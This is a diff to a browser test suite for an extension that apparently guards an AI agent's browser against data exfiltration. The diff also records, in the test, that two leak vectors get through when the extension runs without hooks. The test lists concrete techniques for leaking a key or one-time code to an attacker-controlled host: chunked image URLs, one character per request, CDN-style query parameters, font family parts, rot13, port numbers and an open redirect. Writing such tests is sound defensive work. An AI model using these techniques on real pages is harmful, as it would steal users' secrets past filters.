@@ -64,6 +64,12 @@ interface Vector {
   rebuild?(urls: URL[]): string;
   /** The port vector: delivered when every port server got a request of the case. */
   ports?: true;
+  /**
+   * Pieces finer than one request's taint filters, all started in one turn: only the ledger sees them
+   * across requests, and without the hooks it sees them as they leave — the burst is out before its
+   * refusal's rule lands (docs/limits-floor.md). Asserted as it is, so a fix shows.
+   */
+  reactiveWithoutHooks?: true;
 }
 
 const insert = (c: Ctx, html: string) => c.page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);
@@ -72,7 +78,7 @@ const images = (c: Ctx, urls: string[]) => c.page.evaluate((all) => { for (const
 const VECTORS: Vector[] = [
   { klass: 'pieces', name: 'key in 11-character path segments, one request, upper case', secret: (c) => c.key, run: (c) => images(c, [`${c.base}/${cut(c.key.toUpperCase(), 11).join('/')}.png`]) },
   { klass: 'pieces', name: 'key in 11-character pieces over 6 requests', secret: (c) => c.key, run: (c) => images(c, cut(c.key, 11).map((p) => `${c.base}/${p}.png`)) },
-  { klass: 'pieces', name: 'key one character per request', secret: (c) => c.key, rebuild: (urls) => urls.sort((a, b) => Number(a.searchParams.get('i')) - Number(b.searchParams.get('i'))).map((u) => u.searchParams.get('c') ?? '').join(''), run: (c) => images(c, [...c.key].map((ch, i) => `${c.base}/c.png?i=${i}&c=${ch}`)) },
+  { klass: 'pieces', name: 'key one character per request', reactiveWithoutHooks: true, secret: (c) => c.key, rebuild: (urls) => urls.sort((a, b) => Number(a.searchParams.get('i')) - Number(b.searchParams.get('i'))).map((u) => u.searchParams.get('c') ?? '').join(''), run: (c) => images(c, [...c.key].map((ch, i) => `${c.base}/c.png?i=${i}&c=${ch}`)) },
   {
     klass: 'allowed shapes',
     name: 'CDN-style w/h/q/dpr/fm/fit values, 48 characters per request',
@@ -80,7 +86,7 @@ const VECTORS: Vector[] = [
     run: (c) => images(c, cut(c.key, 48).map((chunk) => `${c.base}/i.jpg?${cut(chunk, 8).map((v, i) => `${['w', 'h', 'q', 'dpr', 'fm', 'fit'][i]}=${v}`).join('&')}`)),
   },
   { klass: 'allowed shapes', name: 'font ?family= parts', secret: (c) => c.key, run: (c) => insert(c, `<link rel="stylesheet" href="${c.base}/css2?family=${cut(c.key, 8).join('+')}">`) },
-  { klass: 'allowed shapes', name: 'one-time code split over two ?w= requests', secret: (c) => c.code, run: (c) => images(c, [`${c.base}/a.jpg?w=${c.code.slice(0, 3)}`, `${c.base}/b.jpg?w=${c.code.slice(3)}`]) },
+  { klass: 'allowed shapes', name: 'one-time code split over two ?w= requests', reactiveWithoutHooks: true, secret: (c) => c.code, run: (c) => images(c, [`${c.base}/a.jpg?w=${c.code.slice(0, 3)}`, `${c.base}/b.jpg?w=${c.code.slice(3)}`]) },
   { klass: 're-encoding', name: 'rot13 of the key', secret: (c) => rot13(c.key), run: (c) => images(c, [`${c.base}/${rot13(c.key)}.png`]) },
   { klass: 'port', name: 'code as two port numbers', ports: true, secret: (c) => c.code, run: (c) => images(c, c.portOrigins.map((o) => `${o}/p.png`)) },
   { klass: 'redirect', name: 'stylesheet through the named site\'s open redirect', secret: (c) => c.key, run: (c) => insert(c, `<link rel="stylesheet" href="${c.home}/redirect?to=${encodeURIComponent(`${c.base}/${cut(c.key, 11).join('-')}.css`)}">`) },
@@ -155,6 +161,7 @@ async function runVector(browser: AgentBrowser, v: Vector): Promise<boolean> {
     const c: Ctx = { page, home: server.origin(HOME), base: `${server.origin(host)}/${id}`, key, code, portOrigins: portServers.map((s) => `http://${ATTACKER}:${s.port}/${id}`) };
     await Promise.race([v.run(c).catch(() => undefined), sleep(QUIET_MS)]);
     await sleep(QUIET_MS);
+    if (v.reactiveWithoutHooks === true) console.log(`floor-volume (${browser.extensionId === null ? 'no extension' : 'extension'}): ${v.name}: ${server.hits(`/${id}/`, host).length} requests arrived`);
     return delivered(v, id, host, v.secret(c));
   } finally {
     await Promise.race([page.close({ runBeforeUnload: false }).catch(() => undefined), sleep(2_000)]);
@@ -206,13 +213,13 @@ for (const variant of ['full', 'nohooks', null] as const) {
     });
     test.afterAll(async () => browser?.close());
 
-    test(variant === null ? 'control: every vector delivers the secret without the extension' : 'every vector is stopped before the whole secret arrives', async () => {
+    test(variant === null ? 'control: every vector delivers the secret without the extension' : `every vector is stopped before the whole secret arrives${variant === 'nohooks' ? ' (but a burst of pieces finer than one request\'s filters)' : ''}`, async () => {
       test.setTimeout(180_000);
       const results = await runAll(browser);
       console.log(`floor-volume (${label}): delivered: ${[...results].filter(([, r]) => r).map(([n]) => n).join('; ') || 'none'}`);
       for (const v of VECTORS) {
-        // Without the extension some loaders need what the test server does not serve (a module, a font): their request still arrives.
-        await test.step(`${v.klass}: ${v.name}`, () => expect.soft(results.get(v.name), `${v.name}`).toBe(variant === null));
+        const delivers = variant === null || (variant === 'nohooks' && v.reactiveWithoutHooks === true);
+        await test.step(`${v.klass}: ${v.name}`, () => expect.soft(results.get(v.name), `${v.name}`).toBe(delivers));
       }
     });
 
